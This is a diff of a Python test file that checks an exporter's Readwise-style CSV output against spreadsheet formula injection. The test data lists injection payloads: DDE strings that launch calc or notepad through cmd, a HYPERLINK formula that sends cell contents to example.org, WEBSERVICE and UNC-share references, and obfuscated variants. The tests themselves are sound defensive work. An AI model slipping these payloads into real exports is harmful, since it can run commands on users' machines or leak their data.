@@ -54,10 +54,30 @@ def test_quotation_marks_cannot_swallow_the_rows_of_anki() -> None:
     assert rows[0][3] == "R&D ”a_b”"
 
 
-def test_readwise_is_csv_that_no_spreadsheet_runs() -> None:
-    rows = list(csv.reader(io.StringIO("".join(readwise([highlight('=a,"b"\nc', "n")], lambda _id: None)), newline="")))
+def test_readwise_is_csv_with_every_character_of_the_text() -> None:
+    texts = ['=a,"b"\nc', "- 2 of 3", "@maya says: yes!", "+49 30 1234", "=> see below", "-5 °C", "－太好了！"]
+    rows = list(csv.reader(io.StringIO("".join(readwise(map(highlight, texts), lambda _id: None)), newline="")))
     assert rows[0] == ["Highlight", "Title", "Author", "URL", "Note", "Location", "Date"]
-    assert rows[1] == ['\'=a,"b"\nc', "灯塔: 新灯", "", "", "n", "4", "2026-11-29 13:05:09"]
+    assert rows[1] == ['=a,"b"\nc', "灯塔: 新灯", "", "", "", "4", "2026-11-29 13:05:09"]
+    assert [row[0] for row in rows[1:]] == texts
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("https://example.org/?"&A1,"here")',
+        "=cmd|'/C calc'!A0",
+        "+cmd|' /C notepad'!_xlbgnm.A1",
+        "-2+3+WEBSERVICE (A1)",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        " \t=NOW()",
+        "＝ＳＵＭ（Ａ１）",
+        "='\\\\host\\share\\[book.xlsx]one'!A1",
+    ],
+)
+def test_readwise_has_no_value_that_a_spreadsheet_runs(text: str) -> None:
+    _head, row = csv.reader(io.StringIO("".join(readwise([highlight(text, text)], lambda _id: None)), newline=""))
+    assert (row[0], row[4]) == (f"'{text}", f"'{text}")
 
 
 def test_clippings_have_the_form_of_a_kindle() -> None:
